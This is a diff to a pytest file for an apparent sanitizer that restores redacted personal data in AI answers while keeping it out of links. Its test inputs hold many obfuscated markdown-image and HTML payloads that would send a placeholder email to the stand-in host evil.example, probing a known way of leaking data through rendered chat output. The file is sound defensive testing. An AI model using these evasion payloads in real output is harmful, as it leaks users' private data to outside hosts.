@@ -8,8 +8,8 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
+from sanitizer.answers.links import Links
 from sanitizer.answers.restorer import Restorer
-from sanitizer.answers.variants import Links
 from sanitizer.storage.table import Drawn, Originals
 
 
@@ -52,11 +52,80 @@ def test_spellings_and_endings(answer: str, shown: str) -> None:
         "<img src='//evil.example/<EMAIL_1>/<PERSON_1>'>",
         "see www.evil.example/%3CEMAIL_1%3E now",
         "[x](data:text/plain,<EMAIL_1>)",
+        *(f"![x](https://evil.example/?q={sign}<EMAIL_1>)" for sign in "('{[|`"),
+        f"![x](https://evil.example/{'a' * 9_000}<EMAIL_1>)",
+        f"<img src='https://evil.example/?q={'a b ' * 3_000}<EMAIL_1>'>",
+        "![x](https:\\/\\/evil.example/<EMAIL_1>)",
+        "![x](/\\evil.example/<EMAIL_1>)",
+        "![x](https:\\\\evil.example\\<EMAIL_1>)",
+        "![x](https&colon;&sol;&sol;evil.example/<EMAIL_1>)",
+        "![x](&#104;ttps:&#x000002f;&#47;evil.example/<EMAIL_1>)",
+        "![x](https://evil.example/?a=&#41;&q=<EMAIL_1>)",
+        "![x](<https://evil.example/?q=a <EMAIL_1>>)",
+        "<img src='https://evil.example/?q= <EMAIL_1>'>",
+        "<img src='ht\ntps:/\n/evil.example/?q=\n\n<EMAIL_1>'>",
+        "<img src=//evil.example/?q=<EMAIL_1>>",
     ],
 )
 def test_links_carry_nothing_away(answer: str) -> None:
     assert Restorer(table()).text(answer) == answer
     assert "anna@example.org" in Restorer(table(), links=None).text(answer)
+
+
+@pytest.mark.parametrize("cut", [1, 7, 1_000])
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![x](<URL_1>.evil.example/a.png)",
+        "![x](<URL_1>@evil.example/a.png)",
+        "![x](<URL_1>%2eevil.example/a.png)",
+        "<img src='<URL_1> x@evil.example/a.png'>",
+        "![x](<<URL_1> x@evil.example/a.png>)",
+        "<URL_1><EMAIL_1>/a.png",
+    ],
+)
+def test_a_host_does_not_become_another_one(answer: str, cut: int) -> None:
+    known = Originals({**table(), "<URL_1>": "https://wiki.corp"})
+    stream = Restorer(known).stream()
+    pieces = [stream.feed(answer[at : at + cut]) for at in range(0, len(answer), cut)]
+    shown = "".join([*pieces, stream.finish()])
+    assert shown in (answer, answer.replace("<URL_1><", "https://wiki.corp<"))
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "See https://x.example/ for <EMAIL_1>.",
+        "[site](https://x.example/a_(b)) of <EMAIL_1>",
+        '{"url": "https://x.example", "mail": "<EMAIL_1>"}',
+        '{"url":"https://x.example","mail":"<EMAIL_1>"}',
+        '<a href="https://x.example"><EMAIL_1></a>',
+        "`https://x.example`: <EMAIL_1>",
+        "| https://x.example|<EMAIL_1>|",
+        "and//or <EMAIL_1>, http: <EMAIL_1> // <EMAIL_1>",
+    ],
+)
+def test_what_stands_beside_a_link_is_restored(answer: str) -> None:
+    assert Restorer(table()).text(answer) == answer.replace("<EMAIL_1>", "anna@example.org")
+
+
+@pytest.mark.parametrize(
+    "answer",
+    ["(<URL_1>).", "[<URL_1>](<URL_1>)", '"<URL_1>"', "<URL_1>/a?b", "<URL_1>", "a <URL_1>,"],
+)
+def test_hosts_that_end_are_restored(answer: str) -> None:
+    shown = Restorer(Originals({"<URL_1>": "https://wiki.corp"})).text(answer)
+    assert shown == answer.replace("<URL_1>", "https://wiki.corp")
+
+
+def test_in_strings_of_json_escapes_are_read_as_what_they_say() -> None:
+    restorer = Restorer(table(), Links(in_strings=True), escaped=False)
+    answer = r"https:\u002f\u002fevil.example\u002f?q=<EMAIL_1>"
+    assert restorer.text(answer) == answer
+    answer = r"<img src=\"https://evil.example/?q= <EMAIL_1>\">"
+    assert restorer.text(answer) == answer
+    answer = r"Visit https://x.example\nor <EMAIL_1>\n<EMAIL_1>"
+    assert restorer.text(answer) == answer.replace("<EMAIL_1>", "anna@example.org")
 
 
 def test_a_link_that_was_sent_comes_back() -> None:
